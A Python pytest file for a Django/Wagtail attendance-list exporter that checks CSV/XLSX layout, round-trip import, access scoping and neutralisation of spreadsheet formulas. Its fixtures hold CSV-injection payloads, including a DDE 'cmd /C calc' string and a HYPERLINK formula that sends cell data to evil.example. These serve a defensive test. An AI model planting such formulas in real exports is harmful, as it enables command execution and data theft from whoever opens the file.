"""Exports of a session's list: CSV and XLSX in the importer's layout, formulas neutralised, round trip."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from accounts.models import User
from core.spreadsheets import neutralise
from trainers.models import Profile
from training.attendance_import import attendance_import
from training.exporting import EXPORT_LOG_ACTION, export_csv, export_xlsx
from training.models import Attendance, SessionParticipant

from .import_factories import D, csv_bytes, make_admin, make_areas, make_person, make_session
from .test_import import messy_rows

pytestmark = pytest.mark.django_db


@pytest.fixture
def areas():
    return make_areas()


@pytest.fixture
def session(areas):
    session = make_session(areas["duy_xuyen"])
    attendance_import(session=session, data=csv_bytes(messy_rows()))
    # Someone enrolled by hand, with a name and organisation a spreadsheet would run as formulas.
    person = make_person(
        '=HYPERLINK("http://x")', phone="+14155550123", organisation="+cmd|' /C calc'!A0", gender=Profile.OTHER
    )
    participant = SessionParticipant.objects.create(session=session, person=person)
    Attendance.objects.create(participant=participant, day=D(2024, 3, 13), present=False)
    return session


def snapshot():
    return (
        sorted(User.objects.values_list("pk", "full_name", "phone", "email")),
        sorted(Profile.objects.values_list("user_id", "gender", "birth_date", "birth_year", "organisation", "commune")),
        sorted(SessionParticipant.objects.values_list("pk", "session_id", "person_id")),
        sorted(Attendance.objects.values_list("pk", "participant_id", "day", "present")),
    )


def test_csv_has_the_importers_headings_and_neutralises_formulas(session):
    data = export_csv(session)

    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header = rows[4]
    assert header == [
        "STT", "Họ và tên", "Giới tính", "Ngày sinh", "Đơn vị công tác", "Số điện thoại", "Email", "Xã/phường",
        "12/03/2024", "13/03/2024", "14/03/2024",
    ]  # fmt: skip
    by_name = {row[1]: row for row in rows[5:]}
    assert by_name["Nguyễn Thị Lan"][2:] == [
        "Nữ", "05/07/1990", "Hội LHPN huyện", "0905123456", "", "Duy Hòa", "x", "x", "x",
    ]  # fmt: skip
    assert by_name["Trần Văn Minh"][3] == "1985"
    assert by_name["Trần Văn Minh"][-1] == "vắng"
    formula_row = by_name['\'=HYPERLINK("http://x")']
    assert formula_row[4].startswith("'+") and formula_row[5] == "'+14155550123"
    assert formula_row[8:] == ["", "vắng", ""]


def test_xlsx_is_a_workbook_with_text_phones_and_real_dates(session):
    sheet = load_workbook(io.BytesIO(export_xlsx(session)), read_only=True).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]

    assert rows[4][:3] == ["STT", "Họ và tên", "Giới tính"]
    lan = next(r for r in rows[5:] if r[1] == "Nguyễn Thị Lan")
    assert lan[3].date() == D(1990, 7, 5)
    assert lan[5] == "0905123456"
    assert any(isinstance(r[1], str) and r[1].startswith("'=") for r in rows[5:])


@pytest.mark.parametrize("render", [export_csv, export_xlsx])
def test_an_exported_list_imports_back_unchanged(session, render):
    before = snapshot()

    report = attendance_import(session=session, data=render(session), file_name="export")

    assert report.errors == [], report.as_text()
    assert report.changes == 0
    assert (report.people_new, report.participants_new, report.attendance_new) == (0, 0, 0)
    assert report.people_existing == 6 and report.attendance_unchanged == 13
    assert report.warnings == []
    assert snapshot() == before


def test_admin_downloads_are_scoped_and_logged(client, session, areas):
    admin = make_admin("district.admin@example.org", areas["duy_xuyen"])
    client.force_login(admin)
    other = make_session(areas["hoi_an"], title="Lớp Hội An")

    csv_response = client.get(reverse("training_lists:export", args=[session.pk, "csv"]))
    xlsx_response = client.get(reverse("training_lists:export", args=[session.pk, "xlsx"]))

    assert csv_response.status_code == 200
    assert csv_response["Content-Type"].startswith("text/csv")
    assert 'filename="danh-sach-khoi-nghiep-doi-moi-sang-tao-20240312.csv"' in csv_response["Content-Disposition"]
    assert xlsx_response.content.startswith(b"PK\x03\x04")
    assert client.get(reverse("training_lists:export", args=[other.pk, "xlsx"])).status_code == 404
    assert client.get(reverse("training_lists:export", args=[session.pk, "pdf"])).status_code == 404
    assert ModelLogEntry.objects.filter(action=EXPORT_LOG_ACTION, user=admin).count() == 2


@pytest.mark.parametrize(
    ("value", "expected"), [("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("-2", "'-2"), ("Lan", "Lan")]
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Lan")'


def _csv_cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def test_wagtail_listing_exports_neutralise_formulas(client, superuser):
    person = make_person(FORMULA_NAME, email="lan@example.org", organisation="@SUM(1+1)")
    client.force_login(superuser)
    response = client.get("/admin/trainers/profiles/", {"export": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(response)
    assert "'" + str(person) in cells and "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]


def test_wagtail_site_history_export_neutralises_formulas(client, superuser, areas):
    from wagtail.log_actions import log

    session = make_session(areas["duy_xuyen"])
    session.title = FORMULA_NAME
    session.save()
    log(instance=session, action="wagtail.edit", user=superuser)
    client.force_login(superuser)
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(response)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]
